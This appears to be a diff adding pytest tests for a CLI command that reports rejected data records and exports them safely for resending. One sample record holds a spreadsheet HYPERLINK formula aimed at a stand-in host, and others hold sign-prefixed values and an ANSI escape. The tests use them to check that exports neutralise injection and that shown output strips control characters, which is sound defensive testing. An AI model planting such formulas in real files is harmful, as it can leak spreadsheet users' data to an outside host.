@@ -1,0 +1,208 @@
+"""`./gv rejects`: which records were rejected and why, and a file of them that can be sent back."""
+
+from __future__ import annotations
+
+import json
+import stat
+from pathlib import Path
+
+import pytest
+
+from growth_verticals.account import Account
+
+from .conftest import Acme
+
+PERIOD, EARLIER = "2026-11-20", "2026-11-19"
+HEADER = "Person Id,Born,Visits,Note"
+GOOD = [f"P{number},1970-01-01,{number},ok" for number in range(20)]
+BAD = [
+    "B1,1980-03-04,many,",
+    'B2,soon,many,"=HYPERLINK(""http://example.com/?""&A1)"',
+    "-B3,1980-03-04,12.5,+12025550143",
+    "B4,too short",
+    '"B5",soon,1,"two\nlines\x1b[31m"',
+]
+LONG = 'B6,soon,1,"' + "x" * 20_000 + '"'
+
+
+def write(path: Path, *records: str, eol: str = "\n") -> Path:
+    path.write_text(eol.join([HEADER, *records]) + eol, newline="")
+    return path
+
+
+@pytest.fixture
+def loaded(acme: Acme, tmp_path: Path) -> Acme:
+    """One period with a file with each kind of bad record, and one with an earlier file."""
+    assert acme.gv("load", "acme", write(tmp_path / "old.csv", *GOOD, BAD[0]), "--period", EARLIER).returncode == 0
+    assert acme.gv("load", "acme", write(tmp_path / "new.csv", *GOOD, *BAD), "--period", PERIOD).returncode == 0
+    return acme
+
+
+# --- showing ------------------------------------------------------------------------------------------------------
+
+
+def test_records_are_counted_by_period_file_column_and_reason(loaded: Acme):
+    lines = loaded.gv("rejects", "acme").stdout.splitlines()
+    assert [line.split() for line in lines[:-1]] == [
+        ["period", "file", "column", "reason", "records"],
+        [EARLIER, "old.csv", "visits", "not_an_integer", "1"],
+        [PERIOD, "new.csv", "visits", "not_an_integer", "3"],
+        [PERIOD, "new.csv", "born", "not_a_date", "2"],
+        [PERIOD, "new.csv", "(whole", "record)", "too_few_columns", "1"],
+    ]
+    assert lines[-1] == "6 rejected record(s) of 2 file(s); one with several faults counts for each"
+    assert "new.csv" not in loaded.gv("rejects", "acme", "--period", EARLIER).stdout
+    assert "1 rejected record(s) of 1 file(s)" in loaded.gv("rejects", "acme", "--file", "old.csv").stdout
+    assert loaded.gv("rejects", "acme", "--period", "2026-11-01").stdout.endswith("holds nothing of 2026-11-01\n")
+
+
+def test_a_script_gets_the_same_counts(loaded: Acme):
+    found = json.loads(loaded.gv("rejects", "acme", "--period", PERIOD, "--json").stdout)
+    assert (found["source"], found["table"]) == ("acme", f"{loaded.table}_rejects")
+    [file] = found["files"]
+    assert (file["period"], file["name"], file["records"], len(file["sha256"])) == (PERIOD, "new.csv", 5, 64)
+    assert file["faults"][0] == {"column": "visits", "reason": "not_an_integer", "records": 3}
+    assert json.loads(loaded.gv("rejects", "acme", "--period", "2026-11-01", "--json").stdout)["files"] == []
+
+
+def test_rows_tell_where_and_why_and_nothing_of_what_stood_there(loaded: Acme):
+    shown = loaded.gv("rejects", "acme", "--period", PERIOD, "--rows")
+    lines = shown.stdout.splitlines()
+    assert len(lines) == 1 + len(BAD)
+    assert lines[2].split() == [
+        PERIOD,
+        "new.csv",
+        "23",
+        "born;",
+        "visits",
+        "not_a_date;",
+        "not_an_integer",
+        "date;",
+        "int",
+    ]
+    assert not any(text in shown.stdout for text in ("many", "HYPERLINK", "B1"))
+    assert len(loaded.gv("rejects", "acme", "--rows", 2).stdout.splitlines()) == 3
+    rows = json.loads(loaded.gv("rejects", "acme", "--rows", 1, "--json").stdout)["rows"]
+    assert [row["raw_record"] for row in rows] == [None]
+
+
+def test_raw_records_are_shown_when_asked_for_with_a_caution_and_without_control_characters(loaded: Acme):
+    shown = loaded.gv("rejects", "acme", "--period", PERIOD, "--rows", "--raw")
+    assert "personal data" in shown.stderr
+    assert BAD[0] in shown.stdout
+    assert r"two\nlines\x1b[31m" in shown.stdout
+    assert "\x1b" not in shown.stdout
+
+
+# --- exporting ----------------------------------------------------------------------------------------------------
+
+
+def test_an_export_is_the_vendors_own_format_safe_for_a_spreadsheet(loaded: Acme, tmp_path: Path):
+    out = tmp_path / "back.csv"
+    said = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out)
+    assert said.returncode == 0, said.stderr
+    assert said.stdout.startswith(f"{out}: 5 of 5 rejected record(s); ")
+    assert out.read_text().split("\n") == [
+        HEADER,
+        BAD[0],
+        'B2,soon,many,"\'=HYPERLINK(""http://example.com/?""&A1)"',
+        "'-B3,1980-03-04,12.5,'+12025550143",
+        BAD[3],
+        *BAD[4].split("\n"),
+        "",
+    ]
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+
+
+def test_an_exact_export_holds_the_records_as_they_came(acme: Acme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.chdir(tmp_path)
+    source = write(tmp_path / "dos.csv", *GOOD, *BAD, eol="\r\n")
+    acme.gv("load", "acme", source, "--period", PERIOD)
+    assert acme.gv("rejects", "export", "acme", "--period", PERIOD, "--exact").returncode == 0
+    assert (tmp_path / f"acme-{PERIOD}-rejects.csv").read_bytes() == "\r\n".join([HEADER, *BAD, ""]).encode()
+
+
+def test_an_exported_file_loads_again(loaded: Acme, tmp_path: Path):
+    out = tmp_path / "back.csv"
+    loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out)
+    out.write_text(out.read_text().replace("many", "3").replace("12.5", "12").replace("soon", ""))
+    again = json.loads(loaded.gv("load", "acme", out, "--period", PERIOD, "--json").stdout)
+    assert (again["files"][0]["rows_loaded"], again["files"][0]["rows_rejected"]) == (4, 1)
+
+
+def test_no_file_is_written_over(loaded: Acme, tmp_path: Path):
+    out, link = tmp_path / "back.csv", tmp_path / "link.csv"
+    out.write_text("mine")
+    link.symlink_to(tmp_path / "elsewhere.csv")
+    for path in (out, link):
+        refused = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", path)
+        assert refused.returncode == 1
+        assert "nothing is overwritten" in refused.stderr
+    assert out.read_text() == "mine"
+    assert not link.exists()
+
+
+def test_a_record_that_was_cut_is_named_and_only_a_spreadsheets_file_has_its_beginning(acme: Acme, tmp_path: Path):
+    acme.gv("load", "acme", write(tmp_path / "long.csv", *GOOD, LONG, BAD[0]), "--period", PERIOD)
+    for words, cut in ((("--exact",), False), ((), True)):
+        out = tmp_path / f"back{cut}.csv"
+        said = acme.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out, *words)
+        assert "long.csv, row 22: only its first 16,384 characters were kept" in said.stderr
+        assert ("…[cut]" in out.read_text()) is cut
+        assert out.read_text().endswith(f"{BAD[0]}\n")
+
+
+def test_files_with_different_headers_are_not_put_under_one(loaded: Acme, tmp_path: Path):
+    other = tmp_path / "other.csv"
+    other.write_text("Visits,Person Id\nmany,O1\n1,O2\n")
+    loaded.gv("load", "acme", other, "--period", PERIOD)
+    out = tmp_path / "back.csv"
+    refused = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out)
+    assert refused.returncode == 1
+    assert "different header lines" in refused.stderr
+    assert not out.exists()
+    assert (
+        loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out, "--file", "other.csv").returncode == 0
+    )
+    assert out.read_text() == "Visits,Person Id\nmany,O1\n"
+
+
+def test_without_the_raw_copy_there_is_no_header_and_that_is_said(
+    loaded: Acme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    monkeypatch.setenv("GV_LANDING_URI", f"{Account.from_environment().landing_uri}/elsewhere")
+    out = tmp_path / "back.csv"
+    said = loaded.gv("rejects", "export", "acme", "--period", EARLIER, "--out", out)
+    assert "old.csv: its raw copy is gone, and the header line with it" in said.stderr
+    assert out.read_text() == f"{BAD[0]}\n"
+
+
+def test_json_lines_are_exported_as_they_came(acme: Acme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.chdir(tmp_path)
+    acme.declare("JsonLines()")
+    bad = '{"person_id": "B1", "visits": "=many"}'
+    (tmp_path / "people.jsonl").write_text(f'{{"person_id": "P1"}}\n{bad}\n')
+    acme.gv("load", "acme", tmp_path / "people.jsonl", "--period", PERIOD)
+    acme.gv("rejects", "export", "acme", "--period", PERIOD)
+    assert (tmp_path / f"acme-{PERIOD}-rejects.jsonl").read_text() == f"{bad}\n"
+
+
+# --- words --------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["export", "acme"],
+        ["export", "acme", "--period", PERIOD, "--rows"],
+        ["acme", "--out", "x.csv"],
+        ["acme", "--exact"],
+        ["acme", "--raw"],
+        ["import", "acme"],
+        ["acme", "--rows", "many"],
+    ],
+)
+def test_words_that_do_not_go_together_exit_with_2(acme: Acme, words: list[str]):
+    with pytest.raises(SystemExit) as ended:
+        acme.gv("rejects", *words)
+    assert ended.value.code == 2
